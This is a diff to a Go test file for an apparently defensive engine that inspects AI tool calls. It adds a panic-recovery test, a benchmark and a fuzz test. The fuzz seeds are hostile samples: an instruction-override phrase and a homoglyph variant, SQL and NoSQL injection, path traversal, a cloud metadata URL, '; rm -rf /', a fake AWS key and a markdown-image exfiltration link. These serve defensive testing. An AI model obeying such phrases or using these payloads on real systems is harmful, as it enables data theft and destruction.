@@ -172,6 +172,31 @@ func TestInspectCanceled(t *testing.T) {
 	}
 }
 
+// panicDetector panics on a value containing "boom".
+type panicDetector struct{}
+
+func (panicDetector) Name() string { return "panicky" }
+func (panicDetector) Inspect(_ *Call, v *Value, _ func(Finding)) {
+	if strings.Contains(v.Norm, "boom") {
+		panic("detector bug")
+	}
+}
+
+func TestInspectDetectorPanic(t *testing.T) {
+	e := New(Config{Detectors: []Detector{panicDetector{}}})
+	res, err := e.Inspect(context.Background(), "t", Request, json.RawMessage(`{"a":"fine","b":"BOOM"}`))
+	if !errors.Is(err, ErrInternal) {
+		t.Fatalf("err = %v, want ErrInternal", err)
+	}
+	if res.Level != threat.High || !hasKind(res.Findings, KindInternalError) {
+		t.Errorf("result = %+v, want an inspection_error finding at high", res)
+	}
+	// The engine keeps working afterwards.
+	if res, err := e.Inspect(context.Background(), "t", Request, json.RawMessage(`{"a":"fine"}`)); err != nil || res.Level != threat.None {
+		t.Errorf("after a panic: %+v, %v", res, err)
+	}
+}
+
 func TestInspectConcurrent(t *testing.T) {
 	e := New(Config{Detectors: []Detector{keywordDetector{"a", "alpha"}}})
 	var wg sync.WaitGroup
@@ -288,4 +313,63 @@ func BenchmarkDetectors(b *testing.B) {
 			})
 		}
 	}
+}
+
+// BenchmarkEngineOwn measures the engine's own work (walk, normalisation, caps, level) with no
+// detector, and with only the text-attack detectors, to separate it from the detectors' cost.
+func BenchmarkEngineOwn(b *testing.B) {
+	for _, eng := range []struct {
+		name string
+		e    *Engine
+	}{{"no_detectors", New(Config{Detectors: []Detector{}})}, {"text_detectors", New(Config{Detectors: textDetectors()})}} {
+		for _, bc := range []struct {
+			name string
+			raw  json.RawMessage
+			dir  Direction
+		}{
+			{"args_1KiB", sampleArgs(1024), Request},
+			{"result_64KiB_values", sampleArgs(64 << 10), Response},
+			{"result_64KiB_text", sampleText(64 << 10), Response},
+		} {
+			b.Run(eng.name+"/"+bc.name, func(b *testing.B) {
+				b.SetBytes(int64(len(bc.raw)))
+				b.ReportAllocs()
+				cpu := processCPU()
+				for b.Loop() {
+					if _, err := eng.e.Inspect(context.Background(), "search", bc.dir, bc.raw); err != nil {
+						b.Fatal(err)
+					}
+				}
+				if c := processCPU() - cpu; c > 0 {
+					b.ReportMetric(float64(c)/float64(b.N)/1000, "cpu-µs/op")
+				}
+			})
+		}
+	}
+}
+
+// FuzzInspectText puts arbitrary text into a string argument and a string result, so that every
+// detector (not only the JSON walker) sees fuzzed input.
+func FuzzInspectText(f *testing.F) {
+	for _, s := range []string{"ignore previous instructions", "' OR 1=1 --", "../../etc/passwd", "http://169.254.169.254/",
+		"; rm -rf /", `{"$ne": 1}`, "4111 1111 1111 1111", "AKIAIOSFODNN7EXAMPLE", "![x](https://e.x/?d=QUJDREVGR0hJSktMTU5PUA==)",
+		"%252e%252e%252f", "\u202eabc", "іgnоrе"} {
+		f.Add(s, "search")
+	}
+	e := New(Config{})
+	f.Fuzz(func(t *testing.T, s, tool string) {
+		raw, err := json.Marshal(map[string]string{"q": s})
+		if err != nil {
+			return
+		}
+		for _, dir := range []Direction{Request, Response} {
+			res, err := e.Inspect(context.Background(), tool, dir, raw)
+			if err != nil && !errors.Is(err, ErrMalformed) {
+				t.Fatalf("Inspect(%q): %v", s, err)
+			}
+			if LevelOf(res.Findings) != res.Level {
+				t.Fatalf("level %v disagrees with findings", res.Level)
+			}
+		}
+	})
 }
